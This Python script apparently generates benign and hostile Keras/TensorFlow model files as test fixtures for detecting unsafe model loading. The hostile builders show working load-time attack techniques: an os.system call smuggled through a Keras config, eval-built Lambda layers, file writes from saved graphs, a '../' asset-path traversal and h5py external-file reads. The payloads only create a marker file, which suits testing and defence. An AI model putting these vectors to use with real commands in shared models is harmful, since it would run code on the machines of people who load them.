"""Models as people have them, and hostile ones: python make_foreign_models.py FOLDER.

Good ones lie in FOLDER/good. Those in FOLDER/evil would create FOLDER/marker, or read or write
files, when a framework opens or runs them.
"""

import contextlib
import json
import shutil
import sys
import zipfile
from pathlib import Path

import h5py
import keras
import numpy as np
import tensorflow as tf
import tf_keras

# ---------------------------------------------------------------- good


def functional(package, ops):
    """Operations between layers, and a model in the model, compiled with a loss of one's own."""
    layers = package.layers
    image = package.Input((8, 8, 3), name="image")
    seen = layers.Conv2D(
        4, 3, activation="relu",
        kernel_initializer=package.initializers.VarianceScaling(2.0, seed=1),
        kernel_regularizer=package.regularizers.L1L2(1e-3, 1e-3),
        bias_constraint=package.constraints.MaxNorm(2),
    )(layers.Rescaling(1 / 255)(image))  # fmt: skip
    inner = package.Sequential([layers.Flatten(), layers.Dense(6, activation="gelu")])
    inner.compile("adam", loss=own_loss)
    return package.Model(image, ops(inner(seen)))


def own_loss(expected, got):
    return expected - got


def keras_ops(x):
    x = keras.ops.where(x > 0, x, -x) + 1.0
    return keras.ops.concatenate([x[:, 1:], keras.ops.mean(x, axis=1, keepdims=True)], axis=1)


def tensorflow_ops(x):
    x = tf.where(x > 0, x, -x) + 1.0
    return tf.concat([x[:, 1:], tf.reduce_mean(x, axis=1, keepdims=True)], axis=1)


def sequence(package):
    layers = package.layers
    rows = package.Input((5, 4), name="rows")
    cells = layers.RNN([layers.GRUCell(4), layers.LSTMCell(4)], return_sequences=True)(rows)
    both = layers.Bidirectional(layers.LSTM(4, return_sequences=True))(cells)
    spread = layers.TimeDistributed(layers.Dense(4))(both)
    return package.Model(rows, layers.MultiHeadAttention(2, 4)(spread, spread))


class Signatures(tf.Module):
    """One to convert, and one that saves, as in training on a device."""

    @tf.function(input_signature=[tf.TensorSpec([None, 3], tf.float32, "x")])
    def run(self, x):
        return {"y": 2 * x}

    @tf.function(input_signature=[tf.TensorSpec([], tf.string, "path")])
    def save(self, path):
        tf.raw_ops.Save(filename=path, tensor_names=["x"], data=[tf.zeros(1)])
        return {"path": path}


def write_good(folder: Path) -> None:
    models = {
        "keras": functional(keras, keras_ops), "tf_keras": functional(tf_keras, tensorflow_ops),
        "keras_rows": sequence(keras), "tf_keras_rows": sequence(tf_keras),
    }  # fmt: skip
    for name, model in models.items():
        # Keras 3 cannot read its own operations back from .h5.
        for kind in ("keras",) if name == "keras" else ("keras", "h5"):
            model.save(folder / f"{name}.{kind}")
    small = keras.Sequential([keras.Input((16,)), keras.layers.Dense(16)])
    small.quantize("int8")
    small.save(folder / "int8.keras")
    module = Signatures()
    both = {"run": module.run, "save": module.save}
    tf.saved_model.save(module, str(folder / "signatures"), both)


# ---------------------------------------------------------------- hostile


class Hostile(tf.Module):
    def __init__(self, marker: str):
        super().__init__()
        self.marker = marker

    @tf.function(input_signature=[tf.TensorSpec([1], tf.float32, "x")])
    def write(self, x):
        def put():
            tf.io.write_file(self.marker, "x")
            return x

        return {"y": tf.cond(x[0] > -9e9, put, lambda: x)}

    @tf.function(input_signature=[tf.TensorSpec([1], tf.float32, "x")])
    def print(self, x):
        tf.print(x, output_stream=f"file://{self.marker}")
        return {"y": x}


def write_evil(folder: Path, marker: str) -> None:
    hostile = Hostile(marker)
    for name in ("write", "print"):
        signature = {"serving_default": getattr(hostile, name)}
        tf.saved_model.save(hostile, str(folder / name), signature)
    write_table(folder / "table")
    good, words = folder.parent / "good", folder / "table.txt"
    write_version_1(good / "version_1", words, is_asset=True)
    write_version_1(folder / "version_1", words, is_asset=False)
    run = eval(f"lambda x: [open({marker!r}, 'w'), x][1]")
    for package, name in ((keras, "keras"), (tf_keras, "tf_keras")):
        layer = package.layers.Lambda(run, name="evil", output_shape=(4,))
        model = package.Sequential([package.Input((4,)), layer])
        for kind in ("keras", "h5"):
            model.save(folder / f"{name}_lambda.{kind}")
    # Without variables, only tf_keras continues, and makes the layers first.
    model.save(folder / "lambda", save_format="tf")
    shutil.rmtree(folder / "lambda" / "variables")
    write_op_lambda(folder / "op_lambda.h5", model.to_json())
    write_function(folder / "function.keras", marker)
    write_external(folder / "external.h5")


def write_table(folder: Path) -> None:
    """A table that is filled from an asset, whose name then leads out of the folder."""
    words = folder.with_suffix(".txt")
    words.write_text("a\nb\n")
    kinds = tf.lookup.TextFileIndex
    module = tf.Module()
    module.table = tf.lookup.StaticHashTable(
        tf.lookup.TextFileInitializer(
            str(words), tf.string, kinds.WHOLE_LINE, tf.int64, kinds.LINE_NUMBER
        ),
        -1,
    )
    module.find = tf.function(
        lambda x: {"y": module.table.lookup(x)},
        input_signature=[tf.TensorSpec([1], tf.string, "x")],
    )
    for target in (folder.parents[1] / "good" / "table", folder):
        tf.saved_model.save(module, str(target), {"serving_default": module.find})
    name = words.name.encode()
    file = folder / "saved_model.pb"
    content = file.read_bytes()
    assert content.count(name)
    file.write_bytes(content.replace(name, b"../" + name[3:]))


def write_version_1(folder: Path, words: Path, is_asset: bool) -> None:
    """A graph of TensorFlow 1 with a variable, and a table that its loading fills from a file."""
    v1, kinds = tf.compat.v1, tf.lookup.TextFileIndex
    with tf.Graph().as_default(), v1.Session() as session:
        x = v1.placeholder(tf.string, [1], "x")
        name = tf.constant(str(words))
        assets = [name] if is_asset else None
        if is_asset:
            v1.add_to_collection(v1.GraphKeys.ASSET_FILEPATHS, name)
        fill = tf.lookup.TextFileInitializer(
            name, tf.string, kinds.WHOLE_LINE, tf.int64, kinds.LINE_NUMBER
        )
        table = v1.lookup.StaticHashTable(fill, -1)
        y = table.lookup(x) + v1.get_variable("v", initializer=tf.constant(3, tf.int64))
        session.run([v1.global_variables_initializer(), v1.tables_initializer()])
        signature = v1.saved_model.predict_signature_def({"x": x}, {"y": y})
        builder = v1.saved_model.builder.SavedModelBuilder(str(folder))
        builder.add_meta_graph_and_variables(
            session, ["serve"], {"serving_default": signature}, assets,
            main_op=v1.tables_initializer(),
        )  # fmt: skip
        builder.save()


def write_op_lambda(path: Path, inner: str) -> None:
    """A function of Keras that loads the JSON of another model, as in the issue."""
    source = {"class_name": "InputLayer", "config": {"name": "x", "batch_input_shape": [None, 4]},
              "name": "x", "inbound_nodes": []}  # fmt: skip
    layer = {"class_name": "TFOpLambda", "name": "evil",
             "config": {"name": "evil", "function": "keras.models.model_from_json"},
             "inbound_nodes": [["_CONSTANT_VALUE", -1, inner, {}]]}  # fmt: skip
    config = {"name": "m", "layers": [source, layer], "input_layers": [["x", 0, 0]],
              "output_layers": [["evil", 0, 0]]}  # fmt: skip
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps({"class_name": "Functional", "config": config})
        file.attrs["keras_version"] = "2.15.0"
        file.create_group("model_weights").attrs["layer_names"] = []


def write_function(path: Path, marker: str) -> None:
    """A function of any module, called on what the file says, when the model is built."""
    layer = {"module": "os", "class_name": "function", "config": "system", "name": "evil",
             "registered_name": "system", "inbound_nodes": [{"args": [f"touch {marker}"],
                                                            "kwargs": {}}]}  # fmt: skip
    config = {"name": "m", "layers": [layer], "input_layers": [["evil", 0, 0]],
              "output_layers": [["evil", 0, 0]]}  # fmt: skip
    model = {"module": "keras.src.engine.functional", "class_name": "Functional", "config": config,
             "registered_name": "Functional"}  # fmt: skip
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", '{"keras_version": "2.15.0"}')
        archive.writestr("config.json", json.dumps(model))


def write_external(path: Path) -> None:
    """Weights that h5py would read from a file elsewhere."""
    model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(1, name="evil")])
    model.save(path)
    elsewhere = path.with_suffix(".secret")
    elsewhere.write_bytes(np.ones(4, np.float32).tobytes())
    with h5py.File(path, "r+") as file:
        group = file["model_weights/evil"]
        (name,) = [item for item in group.attrs["weight_names"] if "kernel" in item]
        del group[name]
        group.create_dataset(name, (4, 1), "f4", external=[(str(elsewhere), 0, 16)])


def find_real(folder: Path, marker: Path) -> list[str]:
    """The files that create the marker when only the framework opens or runs them."""
    real = []
    for path in sorted(folder.iterdir()):
        marker.unlink(missing_ok=True)
        with contextlib.suppress(Exception):
            if (path / "variables").is_dir():
                signature = tf.saved_model.load(str(path)).signatures["serving_default"]
                signature(x=tf.zeros(1))
            else:
                tf_keras.models.load_model(path, compile=False)
        real += [path.name] if marker.exists() else []
    marker.unlink(missing_ok=True)
    return real


if __name__ == "__main__":
    root = Path(sys.argv[1])
    (root / "good").mkdir()
    (root / "evil").mkdir()
    write_good(root / "good")
    write_evil(root / "evil", str(root / "marker"))
    (root / "real.json").write_text(json.dumps(find_real(root / "evil", root / "marker")))
